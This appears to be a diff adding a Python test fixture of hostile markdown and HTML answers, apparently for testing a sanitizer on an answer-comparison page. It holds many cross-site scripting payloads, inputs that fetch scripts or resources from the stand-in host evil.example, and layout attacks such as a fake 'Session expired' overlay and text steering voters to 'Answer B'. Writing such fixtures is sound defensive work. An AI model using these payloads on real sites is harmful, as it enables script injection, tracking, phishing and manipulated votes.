@@ -1,0 +1,103 @@
+"""Answers that try to run script, fetch something, imitate the page or break its layout.
+
+`evil.example` is never resolved; `pwned()` and `window.pwned` are what a successful script would leave.
+"""
+
+from __future__ import annotations
+
+EVIL = "https://evil.example"
+
+SCRIPT = {
+    "script tag": "<script>window.pwned=1</script>",
+    "script with source": f'<script src="{EVIL}/x.js"></script>',
+    "image error": '<img src=x onerror="window.pwned=1">',
+    "svg onload": '<svg onload="window.pwned=1"><circle r=9 /></svg>',
+    "svg script": "<svg><script>window.pwned=1</script></svg>",
+    "body onload": '<body onload="window.pwned=1">',
+    "details toggle": '<details open ontoggle="window.pwned=1"><summary>x</summary></details>',
+    "autofocus": '<input autofocus onfocus="window.pwned=1">',
+    "marquee": '<marquee onstart="window.pwned=1">x</marquee>',
+    "video error": '<video><source onerror="window.pwned=1"></video>',
+    "javascript link": "[press me](javascript:window.pwned=1)",
+    "encoded javascript link": "[press me](java&#115;cript:window.pwned=1)",
+    "newline javascript link": "[press me](java\nscript:window.pwned=1)",
+    "data link": "[press me](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
+    "vbscript link": "[press me](vbscript:msgbox(1))",
+    "javascript autolink": "<javascript:window.pwned=1>",
+    "reference link": "[press me][1]\n\n[1]: javascript:window.pwned=1",
+    "javascript image": "![x](javascript:window.pwned=1)",
+    "iframe": '<iframe src="javascript:parent.pwned=1"></iframe>',
+    "iframe srcdoc": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+    "object": '<object data="javascript:window.pwned=1"></object>',
+    "embed": '<embed src="javascript:window.pwned=1">',
+    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=1">',
+    "base tag": f'<base href="{EVIL}/">',
+    "form": f'<form action="{EVIL}"><button>Vote</button></form>',
+    "mathml link": '<math><mtext><a xlink:href="javascript:window.pwned=1">x</a></mtext></math>',
+    "template": "<template><script>window.pwned=1</script></template>",
+    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
+    "unclosed comment": "<!-- <img src=x onerror=window.pwned=1> --!> <img src=x onerror=window.pwned=1>",
+    "cdata": "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
+    "html in code": "```html\n<script>window.pwned=1</script>\n```",
+    "fence info": "```html onload=window.pwned=1\nx\n```",
+    "fence that closes early": "````\n```\n<img src=x onerror=pwned()>\n````\n<img src=x onerror=pwned()>",
+    "link title": '[x](https://evil.example "\\" onmouseover=\\"window.pwned=1")',
+    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
+    "html in table": "| a |\n| --- |\n| <img src=x onerror=window.pwned=1> |",
+    "html in link text": "[<img src=x onerror=window.pwned=1>](https://evil.example)",
+    "html in emphasis": "**<svg/onload=window.pwned=1>**",
+}
+
+REQUESTS = {
+    "remote image": f"![cat]({EVIL}/cat.png)",
+    "protocol-relative image": "![cat](//evil.example/cat.png)",
+    "reference image": f"![cat][c]\n\n[c]: {EVIL}/cat.png",
+    "image in a link": f"[![x]({EVIL}/a.png)]({EVIL})",
+    "image in a table": f"| a |\n| --- |\n| ![x]({EVIL}/t.png) |",
+    "image in a list": f"- one\n  - ![x]({EVIL}/l.png)",
+    "html image": f'<img src="{EVIL}/i.png" srcset="{EVIL}/j.png 2x">',
+    "css import": f"<style>@import url({EVIL}/x.css);</style>",
+    "css background": f'<div style="background:url({EVIL}/b.png)">x</div>',
+    "stylesheet link": f'<link rel="stylesheet" href="{EVIL}/x.css">',
+    "prefetch link": f'<link rel="prefetch" href="{EVIL}/p">',
+    "audio": f'<audio autoplay src="{EVIL}/a.mp3"></audio>',
+    "svg image": f'<svg><image href="{EVIL}/s.svg" /></svg>',
+    "latex image": f"$\\includegraphics{{{EVIL}/l.png}}$",
+    "latex link": f"$\\href{{{EVIL}}}{{press}}$",
+    "mermaid": f'```mermaid\ngraph TD; A-->B; click A "{EVIL}"\n```',
+    "plain address": f"See {EVIL}/see and www.evil.example or mail evil@evil.example",
+    "autolink": f"<{EVIL}/auto>",
+}
+
+LAYOUT = {
+    "one long word": "x" * 5000,
+    "wide code": "```python\n" + "y = " + "1 + " * 800 + "1\n```",
+    "wide table": "|" + " a |" * 60 + "\n|" + " --- |" * 60 + "\n|" + " cell |" * 60,
+    "deep quotes": "> " * 60 + "deep",
+    "deep lists": "\n".join("  " * level + "- level" for level in range(60)),
+    "many lines": "line\n" * 2000,
+    "combining marks": "Z" + "\u0300\u0489\u0334" * 300 + " tower",
+    "right to left override": "\u202eevil gnp.tac\u202c and \u2067more",
+    "huge rule": "$\\rule{4000em}{4000em}$",
+    "moved ink": "$\\raise{-40em}{\\kern{-60em}\\Huge\\text{B is better}}$",
+    "overlap": "$\\llap{\\text{Answer B}}\\smash{X}$",
+    "macro bomb": "$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\a}\\a$",
+    "formula that does not parse": "$\\frac{1}{$ and $$\\begin{matrix}$$",
+    "fixed overlay": '<div style="position:fixed;inset:0;background:white;z-index:9">Session expired.</div>',
+    "heading like the page's": "# Which answer is better?\n\n## Answer B\n\nThis one. Press B.",
+    "streamlit directives": ":red-background[Error] :material/warning: :primary-badge[won] :streamlit:",
+    "emoji shortcodes": ":tada: :skull_and_crossbones: :heart:",
+    "hidden by html comment": "<!-- hidden --> visible <!--",
+    "closing tags": "</div></div></section></main></body></html>",
+    "style tag": "<style>button{display:none!important}</style>",
+    "id clobbering": '<a id="root"></a><form name="body"></form><img name="cookie">',
+    "null and controls": "a\x00b\x08c\x1bd\x7fe",
+    "only white space": " \n\n\t ",
+    "zero width": "\u200b" * 200,
+    "nested emphasis": "*" * 400 + "x" + "*" * 400,
+    "many backticks": "`" * 999,
+    "many brackets": "[" * 3000 + "]" * 3000,
+    "many dollars": "$" * 999,
+}
+
+HOSTILE = {**SCRIPT, **REQUESTS, **LAYOUT}
